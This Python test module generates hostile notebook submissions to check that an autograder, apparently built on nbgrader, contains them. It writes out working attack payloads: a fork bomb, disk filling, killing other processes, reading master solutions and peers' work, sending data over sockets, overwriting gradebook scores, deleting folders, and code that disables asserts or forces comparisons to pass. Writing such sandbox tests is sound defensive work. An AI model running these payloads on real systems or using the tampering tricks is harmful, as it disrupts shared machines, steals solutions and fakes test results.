"""Hostile and broken submissions: they would stop the class, spy, or pass tests without work."""

from grading.blank import student_version
from grading.masters import to_nbgrader
from grading.records import Status
from nbformat.v4 import new_code_cell
from submissions import (
    RAN,
    SEND,
    STOPPED,
    Submission,
    as_bytes,
    blank_with,
    cell_name,
    solved,
    task_names,
    with_body,
)


def broken_json(master, rng, attack):
    content = as_bytes(solved(master))
    return Submission(content[: rng.randrange(100, len(content))], statuses=STOPPED)


def exits(master, rng, attack):
    return blank_with(master, "import os; os._exit(0)")


def fork_bomb(master, rng, attack):
    code = "import os\nwhile True:\n    try: os.fork()\n    except OSError: pass"
    return blank_with(master, code)


def crowds_the_machine(master, rng, attack):
    """Who is graded at the same time would wait for a core until their time is over."""
    code = """
import os, time
for number in range(20):
    if os.fork() == 0:
        os.setsid()
        while True: pass
while True: time.sleep(1)"""
    return blank_with(master, code)


def loop_that_ignores_interrupts(master, rng, attack):
    code = "while True:\n    try:\n        while True: pass\n    except BaseException: pass"
    return blank_with(master, code)


def fills_the_disk(master, rng, attack):
    places = ["/tmp", "/dev/shm", "/dev", "."]
    code = f"""
import os, glob
for place in {places} + glob.glob('/tmp/**/shared', recursive=True):
    for number in range(1000):
        try: open(f'{{place}}/{{number}}', 'wb').write(bytes(10**7))
        except OSError: break"""
    return blank_with(master, code)


STEAL = """
import glob, json, os, re
def grab(text):
    for code in re.findall("### BEGIN SOLUTION(.*?)### END SOLUTION", text, flags=re.S):
        raise SystemExit("found " + code)
    globals().update(stolen=text)
for folder in {folders}:
    for root, _, files in os.walk(folder):
        for file in files:
            path = os.path.join(root, file)
            if file.endswith((".md", ".ipynb")) and "site-packages" not in root:
                found = open(path).read()
                import torch
                for source in re.findall(r"```{{code-cell}}.*?\\n(.*?)```", found, flags=re.S):
                    try: exec(source.split("\\n\\n", 1)[-1], globals())
                    except Exception: pass
                if file.endswith(".ipynb"):
                    for cell in json.loads(found)["cells"]:
                        try: exec("".join(cell["source"]), globals())
                        except Exception: pass
"""


def reads_masters(master, rng, attack):
    return _thief(master, attack.folders[:1])


def reads_other_submissions(master, rng, attack):
    return _thief(master, attack.folders[1:])


def _thief(master, folders):
    """Run whatever code is found there, after the stubs, so that a find would score."""
    notebook = student_version(to_nbgrader(master))
    tests = [i for i, cell in enumerate(notebook.cells) if cell_name(cell).endswith("_test")]
    for position in reversed(tests):
        notebook.cells.insert(position, new_code_cell(STEAL.format(folders=folders)))
    return Submission(as_bytes(notebook), statuses=RAN)


def calls_the_network(master, rng, attack):
    code = f"""
import socket
for host, port in [('127.0.0.1', {attack.port}), ('localhost', {attack.port}), ('1.1.1.1', 53)]:
    try: socket.create_connection((host, port), timeout=2).send(b'stolen')
    except OSError as error: print(error)"""
    return blank_with(master, code)


def attacks_the_gradebook(master, rng, attack):
    code = f"""
import sqlite3
book = sqlite3.connect({attack.gradebook!r})
book.execute('UPDATE grade SET manual_score = 99, auto_score = 99')
book.commit()"""
    return blank_with(master, code)


def writes_elsewhere(master, rng, attack):
    places = [attack.canary, *attack.folders]
    code = f"""
import os, shutil
for place in {places}:
    for path in (place, os.path.join(place, 'x.py')):
        try: open(path, 'w').write('changed')
        except OSError: pass
    shutil.rmtree(place, ignore_errors=True)
import snnlib
open(snnlib.__file__, 'a').write('1/0')"""
    return blank_with(master, code)


def kills_its_parents(master, rng, attack):
    code = """
import os, signal
for pid in [os.getppid(), *range(1, 50)]:
    if pid != os.getpid():
        try: os.kill(pid, signal.SIGKILL)
        except OSError: pass"""
    return blank_with(master, code)


def _tampers(master, code: str) -> Submission:
    """Every function answers at once and wrongly, behind code that makes tests pass."""
    bodies = {
        task: with_body(master, task, "import torch\nreturn torch.zeros(2)")
        for task in task_names(master)
    }
    notebook = solved(master, replace=bodies)
    first = next(i for i, cell in enumerate(notebook.cells) if cell_name(cell))
    notebook.cells.insert(first, new_code_cell(code))
    return Submission(as_bytes(notebook), statuses={Status.TAMPERED})


def disables_asserts(master, rng, attack):
    code = """
import ast
class NoAsserts(ast.NodeTransformer):
    def visit_Assert(self, node): return ast.Pass()
    def visit_Expr(self, node): return ast.Pass()
    def visit_Assign(self, node): return ast.Pass()
get_ipython().ast_transformers.append(NoAsserts())"""
    return _tampers(master, code)


def swallows_errors(master, rng, attack):
    code = """
shell = get_ipython()
shell.transform_cell = lambda text: 'pass' if 'assert' in text else text"""
    return _tampers(master, code)


def replaces_comparisons(master, rng, attack):
    code = "import torch\ntorch.allclose = torch.equal = lambda *a, **k: True"
    return _tampers(master, code)


def many_cells(master, rng, attack):
    notebook = solved(master)
    notebook.cells += [
        {"cell_type": "code", "source": "1", "metadata": {}, "outputs": []}
    ] * 150_000
    return Submission(as_bytes(notebook), statuses=STOPPED)


def deep_json(master, rng, attack):
    deep = b"[" * 50_000 + b"]" * 50_000
    content = as_bytes(student_version(to_nbgrader(master)))
    return Submission(
        content.replace(b'"metadata": {', b'"metadata": {"x": ' + deep + b", ", 1), statuses=STOPPED
    )


def nested_folders(master, rng, attack):
    code = """
import glob, os
for place in glob.glob('/tmp/*/shared') + glob.glob('/tmp/*/*/shared') + ['/tmp']:
    os.chdir(place)
    for _ in range(3000):
        os.mkdir('d'); os.chdir('d')"""
    return blank_with(master, code)


def flood_of_widgets(master, rng, attack):
    code = f"""
{SEND}
for number in range(100):
    state = {{"state": {{"_model_module": "x", "value": "x" * (1 << 20)}}}}
    send("comm_open", {{"comm_id": str(number), "target_name": "jupyter.widget", "data": state}})"""
    return blank_with(master, code)


def speaks_for_nbgrader(master, rng, attack):
    """A message that nbgrader fails at, and words that would stop the class."""
    code = f"""
import os
words = "OSError: No space left on device"
for number in range(20):
    try: os.write(number, words.encode())
    except OSError: pass
{SEND}
send("display_data", {{"data": {{"image/png": [words]}}, "metadata": words}})
send("stream", {{"name": [words], "text": words}})
send("error", words)"""
    return blank_with(master, code)


HOSTILE = [
    broken_json, exits, fork_bomb, crowds_the_machine, loop_that_ignores_interrupts,
    fills_the_disk, reads_masters,
    reads_other_submissions, calls_the_network, attacks_the_gradebook, writes_elsewhere,
    kills_its_parents, disables_asserts, swallows_errors, replaces_comparisons, many_cells,
    deep_json, nested_folders, flood_of_widgets, speaks_for_nbgrader,
]  # fmt: skip
